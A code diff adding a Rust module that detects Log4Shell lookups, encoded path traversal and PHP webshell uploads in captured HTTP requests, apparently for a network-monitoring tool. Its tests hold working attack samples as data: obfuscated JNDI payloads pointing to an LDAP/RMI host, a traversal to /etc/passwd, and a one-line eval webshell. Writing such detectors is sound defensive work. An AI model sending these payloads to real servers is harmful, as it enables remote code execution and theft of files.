@@ -0,0 +1,268 @@
+//! Exploit attempts: known attack patterns in the HTTP requests of a session.
+//!
+//! The requests rebuilt by [`http_capture`](super::http_capture) are searched for
+//! - `log4shell`: a `${jndi:` lookup anywhere in the request, once the nested
+//!   `${lower:j}` or `${::-j}` lookups hiding it are resolved
+//! - `path_traversal`: a `../` segment in the request target, once percent-decoded
+//!   twice so that `%2e%2e%2f` and `%252e%252e%252f` are caught as well
+//! - `php_webshell`: a request body holding PHP code that runs commands or
+//!   evaluates what it is sent, e.g. a `shell.php` uploaded through a form
+//!
+//! Each attempt found when a capture is finalized tags the session with its kind
+//! and emits an `exploit_attempted` event, once per session.
+
+use std::sync::OnceLock;
+
+use chrono::{DateTime, Utc};
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+
+use super::http_capture;
+use super::types::{CaptureArtifacts, HttpRequest};
+
+/// Nested lookups resolved before giving up on a `${` expression
+const MAX_LOOKUP_DEPTH: usize = 8;
+/// Characters of the request quoted as evidence
+const MAX_EVIDENCE_LEN: usize = 200;
+
+/// Known attack pattern, also the tag of the sessions it is found in
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum ExploitKind {
+    Log4Shell,
+    PathTraversal,
+    PhpWebshell,
+}
+
+impl ExploitKind {
+    pub fn as_str(&self) -> &'static str {
+        match self {
+            ExploitKind::Log4Shell => "log4shell",
+            ExploitKind::PathTraversal => "path_traversal",
+            ExploitKind::PhpWebshell => "php_webshell",
+        }
+    }
+}
+
+/// An HTTP request matching a known attack pattern
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct ExploitAttempt {
+    pub kind: ExploitKind,
+    /// When the request line was received, if known
+    pub timestamp: Option<DateTime<Utc>>,
+    pub method: String,
+    /// Request target as sent
+    pub path: String,
+    /// Where the pattern was found: `path`, `body` or `header:<name>`
+    pub location: String,
+    /// Excerpt of the request around the pattern
+    pub evidence: String,
+}
+
+/// Attempts found in the requests of the client stream of `artifacts`, in order
+pub fn from_artifacts(artifacts: &CaptureArtifacts) -> Vec<ExploitAttempt> {
+    let requests: Vec<HttpRequest> = http_capture::from_artifacts(artifacts)
+        .into_iter()
+        .map(|exchange| exchange.request)
+        .collect();
+    detect(&requests)
+}
+
+/// Attempts found in `requests`, at most one of each kind per request
+pub fn detect(requests: &[HttpRequest]) -> Vec<ExploitAttempt> {
+    let mut attempts = Vec::new();
+    for request in requests {
+        let attempt = |kind, location: &str, evidence: &str| ExploitAttempt {
+            kind,
+            timestamp: request.timestamp,
+            method: request.method.clone(),
+            path: request.path.clone(),
+            location: location.to_string(),
+            evidence: excerpt(evidence),
+        };
+
+        let mut fields: Vec<(String, &str)> = vec![("path".to_string(), &request.path)];
+        fields.extend(
+            request
+                .headers
+                .iter()
+                .map(|(name, value)| (format!("header:{}", name), value.as_str())),
+        );
+        fields.push(("body".to_string(), &request.body));
+        if let Some((location, evidence)) = fields
+            .iter()
+            .find_map(|(location, value)| log4shell(value).map(|found| (location, found)))
+        {
+            attempts.push(attempt(ExploitKind::Log4Shell, location, &evidence));
+        }
+
+        let target = percent_decode(&percent_decode(&request.path));
+        if traversal().is_match(&target) {
+            attempts.push(attempt(ExploitKind::PathTraversal, "path", &target));
+        }
+
+        if let Some(found) = php_webshell(&request.body) {
+            attempts.push(attempt(ExploitKind::PhpWebshell, "body", found));
+        }
+    }
+    attempts
+}
+
+/// The `${jndi:` lookup hidden in `value`, resolved
+fn log4shell(value: &str) -> Option<String> {
+    static JNDI: OnceLock<Regex> = OnceLock::new();
+    static LOOKUP: OnceLock<Regex> = OnceLock::new();
+    let jndi = JNDI.get_or_init(|| Regex::new(r"(?i)\$\{\s*jndi\s*:[^}]*").unwrap());
+    let lookup = LOOKUP.get_or_init(|| Regex::new(r"\$\{([^${}]*)\}").unwrap());
+
+    let mut value = percent_decode(value);
+    if !value.contains("${") {
+        return None;
+    }
+    for _ in 0..MAX_LOOKUP_DEPTH {
+        if let Some(found) = jndi.find(&value) {
+            return Some(found.as_str().to_string());
+        }
+        // Innermost lookups first: `${::-j}` and `${env:NaN:-j}` are their
+        // default, `${lower:j}` its argument, and any other one is dropped
+        let resolved = lookup.replace_all(&value, |caps: &regex::Captures| {
+            let content = &caps[1];
+            if let Some((_, default)) = content.rsplit_once(":-") {
+                return default.to_string();
+            }
+            match content.split_once(':') {
+                Some((function, argument))
+                    if function.eq_ignore_ascii_case("lower")
+                        || function.eq_ignore_ascii_case("upper") =>
+                {
+                    argument.to_string()
+                }
+                _ => String::new(),
+            }
+        });
+        if resolved == value {
+            return None;
+        }
+        value = resolved.into_owned();
+    }
+    jndi.find(&value).map(|found| found.as_str().to_string())
+}
+
+fn traversal() -> &'static Regex {
+    static TRAVERSAL: OnceLock<Regex> = OnceLock::new();
+    TRAVERSAL.get_or_init(|| Regex::new(r"(?:^|[/\\=])\.\.(?:[/\\;]|$)").unwrap())
+}
+
+/// The dangerous call of the PHP code in `body`
+fn php_webshell(body: &str) -> Option<&str> {
+    static OPEN_TAG: OnceLock<Regex> = OnceLock::new();
+    static CALL: OnceLock<Regex> = OnceLock::new();
+    let open_tag = OPEN_TAG.get_or_init(|| Regex::new(r"(?i)<\?(?:php\b|=)").unwrap());
+    let call = CALL.get_or_init(|| {
+        Regex::new(
+            r"(?i)\b(?:eval|assert|system|shell_exec|passthru|exec|popen|proc_open|pcntl_exec|create_function)\s*\(|\$_(?:GET|POST|REQUEST|COOKIE)\s*\[",
+        )
+        .unwrap()
+    });
+
+    let start = open_tag.find(body)?.start();
+    call.find_at(body, start)
+        .map(|found| &body[start..found.end()])
+}
+
+/// `value` with its `%xx` escapes decoded, invalid UTF-8 replaced
+fn percent_decode(value: &str) -> String {
+    let bytes = value.as_bytes();
+    let mut decoded = Vec::with_capacity(bytes.len());
+    let mut i = 0;
+    while i < bytes.len() {
+        let escaped = (bytes[i] == b'%')
+            .then(|| bytes.get(i + 1..i + 3))
+            .flatten()
+            .and_then(|hex| std::str::from_utf8(hex).ok())
+            .and_then(|hex| u8::from_str_radix(hex, 16).ok());
+        match escaped {
+            Some(byte) => {
+                decoded.push(byte);
+                i += 3;
+            }
+            None => {
+                decoded.push(bytes[i]);
+                i += 1;
+            }
+        }
+    }
+    String::from_utf8_lossy(&decoded).into_owned()
+}
+
+fn excerpt(text: &str) -> String {
+    match text.char_indices().nth(MAX_EVIDENCE_LEN) {
+        Some((end, _)) => format!("{}...", &text[..end]),
+        None => text.to_string(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn requests(c2s: &[u8]) -> Vec<HttpRequest> {
+        http_capture::from_streams(c2s, b"", &[])
+            .into_iter()
+            .map(|exchange| exchange.request)
+            .collect()
+    }
+
+    #[test]
+    fn known_patterns_are_found_in_requests() {
+        let body =
+            "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"x.php\"\r\n\r\n\
+            <?php @eval($_POST['cmd']); ?>\r\n--b--\r\n";
+        let c2s = format!(
+            "GET /?x=${{${{lower:j}}${{::-n}}di:ldap://198.51.100.7:1389/a}} HTTP/1.1\r\n\
+            User-Agent: ${{${{env:NaN:-j}}ndi${{env:NaN:-:}}rmi://198.51.100.7/b}}\r\n\r\n\
+            GET /cgi-bin/.%2e/%252e%252e/etc/passwd HTTP/1.1\r\n\r\n\
+            POST /upload.php HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=b\r\n\
+            Content-Length: {}\r\n\r\n{}",
+            body.len(),
+            body
+        );
+        let attempts = detect(&requests(c2s.as_bytes()));
+        let found: Vec<_> = attempts
+            .iter()
+            .map(|a| (a.kind, a.location.as_str(), a.evidence.as_str()))
+            .collect();
+        assert_eq!(
+            found,
+            [
+                (
+                    ExploitKind::Log4Shell,
+                    "path",
+                    "${jndi:ldap://198.51.100.7:1389/a"
+                ),
+                (
+                    ExploitKind::PathTraversal,
+                    "path",
+                    "/cgi-bin/../../etc/passwd"
+                ),
+                (ExploitKind::PhpWebshell, "body", "<?php @eval("),
+            ]
+        );
+        assert_eq!(attempts[2].method, "POST");
+        assert_eq!(attempts[2].path, "/upload.php");
+
+        assert_eq!(
+            log4shell("${${env:NaN:-j}ndi${env:NaN:-:}rmi://198.51.100.7/b}").as_deref(),
+            Some("${jndi:rmi://198.51.100.7/b")
+        );
+    }
+
+    #[test]
+    fn ordinary_requests_are_left_alone() {
+        let c2s = b"GET /static/app..min.js?v=${version} HTTP/1.1\r\nHost: example\r\n\r\n\
+            POST /login HTTP/1.1\r\nContent-Length: 24\r\n\r\nuser=admin&pass=%2e%2e%2f\
+            GET /docs/php.html HTTP/1.1\r\n\r\n";
+        assert!(detect(&requests(c2s)).is_empty());
+        assert!(php_webshell("<?xml version=\"1.0\"?><eval>(1)</eval>").is_none());
+    }
+}